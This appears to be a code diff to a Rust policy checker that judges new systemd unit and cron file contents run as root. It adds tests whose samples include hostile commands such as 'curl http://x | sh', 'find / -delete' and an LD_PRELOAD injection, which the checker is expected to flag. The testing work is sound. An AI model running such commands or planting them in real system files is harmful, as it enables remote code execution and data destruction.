@@ -86,7 +86,12 @@ impl<'a> Weighing<'a> {
                 found.push(format!("root would run {shown}, which {}", because(&verdict)));
             }
         }
-        found.extend(code.power.iter().filter(|one| !before.power.contains(one)).map(|power| format!("{what} {power}")));
+        found.extend(
+            code.power
+                .iter()
+                .filter(|one| !before.power.contains(one))
+                .map(|power| format!("{what} {power}")),
+        );
         found.extend(code.unreadable.map(|why| format!("{what} becomes code, and can't be judged: {why}")));
         found.truncate(MOST_NAMED);
         self.risks.extend(found.into_iter().map(|reason| (Risk::High, excerpt(&reason, 3 * NAMED))));
@@ -94,7 +99,14 @@ impl<'a> Weighing<'a> {
     }
 
     fn met(&mut self, verdict: &Verdict, what: &str) -> Result<(), Problem> {
-        self.rules.extend(verdict.matched_rules.iter().filter(|rule| !self.rules.contains(rule)).cloned().collect::<Vec<_>>());
+        self.rules.extend(
+            verdict
+                .matched_rules
+                .iter()
+                .filter(|rule| !self.rules.contains(rule))
+                .cloned()
+                .collect::<Vec<_>>(),
+        );
         if verdict.level == Level::Block {
             return Err(blocked(verdict, what));
         }
@@ -132,7 +144,65 @@ fn blocked(verdict: &Verdict, what: &str) -> Problem {
 
 /// What is run to look, and is no looking.
 pub fn no_looking(verdict: &Verdict, line: &str) -> Problem {
-    let message =
-        format!("`{line}` is granted to look by, and the policy takes it for a change: it {}", because(verdict));
+    let message = format!(
+        "`{line}` is granted to look by, and the policy takes it for a change: it {}",
+        because(verdict)
+    );
     Problem::new("POLICY_BLOCKED", Category::Denied, message)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const UNIT: &str = "/etc/systemd/system/x.service";
+    const CRONTAB: &str = "/etc/cron.d/x";
+
+    /// What the built-in rules say of new contents of a file.
+    fn weighed(path: &str, before: &str, after: &str) -> (Vec<Risk>, String) {
+        let policy = Policy::builtin();
+        let mut weighing = Weighing::new(&policy);
+        let before = text::of_file(path, before.as_bytes());
+        weighing.code(text::of_file(path, after.as_bytes()).unwrap(), before, path).unwrap();
+        let reasons: Vec<&str> = weighing.risks.iter().map(|(_, reason)| reason.as_str()).collect();
+        (weighing.risks.iter().map(|(risk, _)| *risk).collect(), reasons.join("\n"))
+    }
+
+    #[test]
+    fn text_that_root_would_run_is_grave_where_the_rules_do_not_call_it_safe() {
+        for (path, text, grave) in [
+            (UNIT, "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n", false),
+            (
+                UNIT,
+                "[Service]\nExecStart=/bin/systemctl restart nginx.service\nExecStartPre=/bin/echo hello\n",
+                false,
+            ),
+            (UNIT, "[Service]\nExecStart=/bin/rm /etc/x\n", true),
+            (UNIT, "[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n", true),
+            (UNIT, "[Service]\nExecStart=/usr/bin/x\nEnvironment=LD_PRELOAD=/tmp/x.so\n", true),
+            (CRONTAB, "0 3 * * * root /usr/bin/backup --quiet\n", false),
+            (CRONTAB, "0 3 * * * root find / -delete\n", true),
+            ("/etc/cron.daily/x", "anything", true),
+        ] {
+            let (risks, reasons) = weighed(path, "", text);
+            assert_eq!(risks.iter().any(|risk| *risk >= Risk::High), grave, "{path} {text}: {reasons}");
+        }
+    }
+
+    #[test]
+    fn only_what_is_new_is_weighed() {
+        let old = "0 3 * * * root find / -delete\n";
+        assert!(weighed(CRONTAB, old, &format!("{old}0 4 * * * root /usr/bin/backup\n")).0.is_empty());
+        assert!(!weighed(CRONTAB, old, &format!("{old}0 4 * * * root find /srv -delete\n")).0.is_empty());
+        // The same line with other rights is another one.
+        assert!(!weighed(CRONTAB, "0 3 * * * ada find / -delete\n", old).0.is_empty());
+    }
+
+    #[test]
+    fn with_an_accounts_own_rights_text_is_as_grave_as_the_rules_say() {
+        let (_, reasons) = weighed(CRONTAB, "", "0 3 * * * ada rm /srv/x\n");
+        assert!(!reasons.contains("root would run"), "{reasons}");
+        let (_, reasons) = weighed(CRONTAB, "", "0 3 * * * root rm /srv/x\n");
+        assert!(reasons.contains("root would run `rm /srv/x`"), "{reasons}");
+    }
 }
